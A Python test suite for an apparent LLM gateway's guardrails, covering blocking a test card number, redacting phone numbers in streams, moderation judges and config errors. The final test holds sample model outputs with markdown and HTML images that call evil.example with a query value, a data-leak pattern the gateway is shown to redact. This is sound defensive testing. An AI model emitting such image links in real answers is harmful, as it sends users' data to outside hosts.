"""Guardrails that a bundle declares, over HTTP and from the command line: what callers get in each protocol, and what is kept of it."""

from __future__ import annotations

import json

import pytest

from aver.core.settings import Settings
from aver.server.application import Application
from aver.server.cli import main
from aver.testing import HashEmbedder
from aver.testing.judges import FakeJudge
from aver.testing.provider import FakeProvider
from aver.testing.replies import Reply
from tests.integration.doors import DOORS, PATHS, body
from tests.servers import fill, serving

CARD = "4111 1111 1111 1111"
ASKED = "How many days of unused leave carry over to the next year?"
CARRY = "Unused leave: up to ten days carry over to the next year. [1]"
MARCH = "They must be used by the end of March. [1]"
BUNDLE = """
providers:
  house: {kind: openai, base_url: "ROOT"}
models:
  assistant: {provider: house, price: {input: 1, output: 2}}
guardrails:
"""


class Home:
    """``says`` is what the model writes."""

    def __init__(self, folder, capsys):
        self.folder, self._capsys = folder, capsys
        self.says = f"{CARRY} {MARCH}"
        self.provider = FakeProvider(lambda _: Reply(self.says))
        self.bundle = folder / "bundle"
        self.bundle.mkdir()
        self.application = None

    def declare(self, guardrails):
        text = BUNDLE.replace("ROOT", self.provider.base_url) + guardrails
        (self.bundle / "aver.yaml").write_text(text)

    def open(self):
        settings = Settings(data=self.folder / "data", bundle=self.bundle)
        self.application = Application(settings, embedder=HashEmbedder())
        fill(self.application, self.folder)
        return self.application

    def key(self):
        return self.application.create_key("northwind", "ann")[1]

    def steps(self, kind):
        return list(self.application.tenant("northwind").ledger.of_kind(kind))

    def aver(self, *words, code=0):
        """What a command prints beside the server."""
        settings = ["--data", str(self.folder / "data")]
        assert main([*settings, *words]) == code
        return self._capsys.readouterr()


@pytest.fixture
def home(tmp_path, capsys, monkeypatch):
    made = Home(tmp_path, capsys)
    monkeypatch.setenv("AVER_BUNDLE", str(made.bundle))
    with made.provider:
        yield made
    if made.application:
        made.application.close()


@pytest.fixture
def post():
    import httpx

    with httpx.Client(timeout=60) as client:

        def send(url, key, sent):
            return client.post(url, json=sent, headers={"Authorization": f"Bearer {key}"})

        yield send


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_question_that_is_blocked_is_an_error_in_the_callers_own_words(home, post, stream):
    home.declare("  input: {personal: {mode: block, kinds: [CREDIT_CARD]}}\n")
    with serving(home.open()) as served:
        key = home.key()
        for door in DOORS:
            sent = body(door, "assistant", f"My card is {CARD}. {ASKED}", stream=stream)
            answer = post(served.url + PATHS[door], key, sent)
            assert answer.status_code == 400, answer.text
            error = answer.json()["error"]
            assert "personal: found 1 CREDIT_CARD" in error["message"]
            if door == "anthropic":
                assert error["type"] == "invalid_request_error"
            else:
                assert (error["type"], error["code"]) == ("invalid_request_error", "content_filter")
        problem = post(f"{served.url}/v1/ask", key, {"question": f"{ASKED} {CARD}", "stream": stream})
        assert (problem.status_code, problem.json()["type"]) == (400, "urn:aver:problem:blocked")
        assert problem.headers["content-type"] == "application/problem+json"
    assert home.provider.requests == []
    assert CARD not in json.dumps([step.facts for step in home.steps("checked")])
    assert {step.facts["outcome"] for step in home.steps("checked")} == {"block"}


def test_an_answer_is_cut_while_it_is_streamed(home, post):
    home.declare("  output: {personal: {mode: redact, kinds: [DATE_TIME, AGE, PHONE_NUMBER]}}\n")
    home.says = f"{CARRY} {MARCH} Call +44 20 7946 0958 about it. [1]"
    with serving(home.open()) as served:
        key = home.key()
        for door in DOORS:
            answer = post(served.url + PATHS[door], key, body(door, "assistant", ASKED, stream=True))
            assert answer.status_code == 200
            assert "ten days carry over" in answer.text
            assert "[PHONE_NUMBER]" in answer.text
            assert "7946" not in answer.text
        shown = post(f"{served.url}/v1/ask", key, {"question": ASKED, "stream": True}).text
        assert "event: sentence" in shown
        assert "[PHONE_NUMBER]" in shown
        assert "7946" not in shown
    assert {step.facts["outcome"] for step in home.steps("checked")} == {"redact"}
    assert any("7946" in json.dumps(step.body) for step in home.steps("generated"))


def test_an_answer_that_is_blocked_ends_the_stream_with_a_typed_error(home, post):
    home.declare("  output: {personal: {mode: block, kinds: [PHONE_NUMBER]}}\n")
    home.says = f"{CARRY} {MARCH} Call +44 20 7946 0958 about it. [1]"
    with serving(home.open()) as served:
        key = home.key()
        events = post(f"{served.url}/v1/ask", key, {"question": ASKED, "stream": True}).text
        assert events.rstrip().rpartition("event: ")[2].startswith("error")
        assert "urn:aver:problem:blocked" in events
        assert "ten days" in events
        for door in DOORS:
            text = post(served.url + PATHS[door], key, body(door, "assistant", ASKED, stream=True)).text
            assert "A check holds back the answer" in text
            assert "7946" not in text
            whole = post(served.url + PATHS[door], key, body(door, "assistant", ASKED))
            assert whole.status_code == 400


def test_observing_is_recorded_and_changes_no_answer(home, post):
    home.declare("  input: {personal: observe}\n  output: {secrets: observe}\n")
    with serving(home.open()) as served:
        answer = post(f"{served.url}/v1/ask", home.key(), {"question": f"{ASKED} My card is {CARD}."}).json()
        assert answer["notices"] == []
        assert not answer["abstained"]
        story = home.aver("evidence", "show", answer["turn"], "-t", "northwind").out
    places = {step.facts["place"]: step.facts for step in home.steps("checked")}
    assert places["input"]["outcome"] == "pass"
    assert "CREDIT_CARD" in places["input"]["kinds"]
    assert places["output"]["kinds"] == []
    assert "Checked the request: nothing held back (" in story
    assert CARD in json.dumps(home.provider.requests[-1].body)


def test_a_tenants_own_declaration_and_a_changed_file(home, post):
    home.declare("  tenants: {northwind: {input: {personal: {mode: block, kinds: [CREDIT_CARD]}}}}\n")
    question = {"question": f"{ASKED} {CARD}"}
    application = home.open()
    application.store.create_tenant("globex")
    with serving(application) as served:
        key, other = home.key(), application.create_key("globex", "eve")[1]
        assert post(f"{served.url}/v1/ask", key, question).status_code == 400
        assert post(f"{served.url}/v1/ask", other, question).status_code == 200
        source = application.bundle
        home.declare("  input: {personal: nonsense}\n")
        reread(source)
        assert source.problem is not None
        assert "aver.yaml:7" in source.problem.cause
        assert post(f"{served.url}/v1/ask", key, question).status_code == 400
        home.declare("  input: {}\n")
        reread(source)
        assert post(f"{served.url}/v1/ask", key, question).status_code == 200


def reread(source):
    source._next_look = 0.0
    source()
    source.settle()


async def test_a_server_that_judges_is_asked_and_held_against_when_it_fails(home, monkeypatch):
    monkeypatch.setenv("JUDGE_KEY", "judge-key")
    async with FakeJudge(["frightful"]) as judge:
        home.declare(
            f'  checks: {{remote: {{kind: moderation, base_url: "{judge.base_url}", credential: "env:JUDGE_KEY"}}}}\n'
            "  input: {remote: {mode: block, deadline: 5s}}\n"
        )
        application = home.open()
        services = application.tenant("northwind")
        ann = services.principal("ann")
        from aver.core.errors import Blocked

        assert not (await services.assistant.ask(ann, ASKED)).abstained
        with pytest.raises(Blocked):
            await services.assistant.ask(ann, f"{ASKED} Something frightful.")
        judge.fault = "status"
        with pytest.raises(Blocked):
            await services.assistant.ask(ann, ASKED)
        await application.aclose()
    assert [step.facts["failures"] for step in home.steps("checked")] == [[None], [None], ["provider-refused"]]
    assert len(judge.asked) == 3


def test_from_the_command_line(home, monkeypatch):
    monkeypatch.setattr("aver.gateway.adapters.minilm.MiniLM", lambda _: HashEmbedder())
    home.declare("  input: {personal: {mode: block, kinds: [CREDIT_CARD]}}\n  output: {personal: flag}\n")
    home.open().close()
    refused = home.aver("ask", f"{ASKED} {CARD}", "-t", "northwind", "-u", "ann", code=1)
    assert refused.err.startswith("error: A check holds back what was asked (personal: found 1 CREDIT_CARD).")
    assert CARD not in refused.err
    checked = home.aver("gateway", "check").out
    assert "personal" in checked
    assert "block" in checked
    document = json.loads(home.aver("gateway", "check", "--json").out)
    assert document["guardrails"]["input"] == {"personal": {"mode": "block", "kinds": ["CREDIT_CARD"]}}
    home.application = None


def test_a_mistake_names_its_line_before_anything_is_served(home):
    home.declare("  input: {personel: block}\n")
    said = home.aver("gateway", "check", code=2).err
    assert "aver.yaml:7: 'personel' is no check. Did you mean 'personal'?" in said


@pytest.mark.parametrize(
    "written",
    [
        "The badge is ![x](https://evil.example/?q=ann) here.",
        "The badge is ![x][b] here.\n\n[b]: https://evil.example/?q=ann",
        '<img src="//evil.example/?q=ann"> is the badge.',
    ],
)
def test_a_picture_that_would_be_fetched_comes_through_no_door_though_nothing_is_declared(home, post, written):
    home.declare("  input: {}\n")
    home.says = f"{CARRY} {written} {MARCH}"
    with serving(home.open()) as served:
        key = home.key()
        for stream in (False, True):
            shown = [
                post(served.url + PATHS[door], key, body(door, "assistant", ASKED, stream=stream)) for door in DOORS
            ]
            shown.append(post(f"{served.url}/v1/ask", key, {"question": ASKED, "stream": stream}))
            for answer in shown:
                assert answer.status_code == 200
                assert "ten days carry over" in answer.text
                assert "[remote_image]" in answer.text
                assert "evil.example" not in answer.text
        conversation = post(f"{served.url}/v1/ask", key, {"question": ASKED}).json()["conversation"]
        import httpx

        past = httpx.get(f"{served.url}/v1/conversations/{conversation}", headers={"Authorization": f"Bearer {key}"})
        assert past.status_code == 200
        assert "evil.example" not in past.text
    assert {step.facts["outcome"] for step in home.steps("checked")} == {"redact"}
    assert any("evil.example" in json.dumps(step.body) for step in home.steps("generated"))
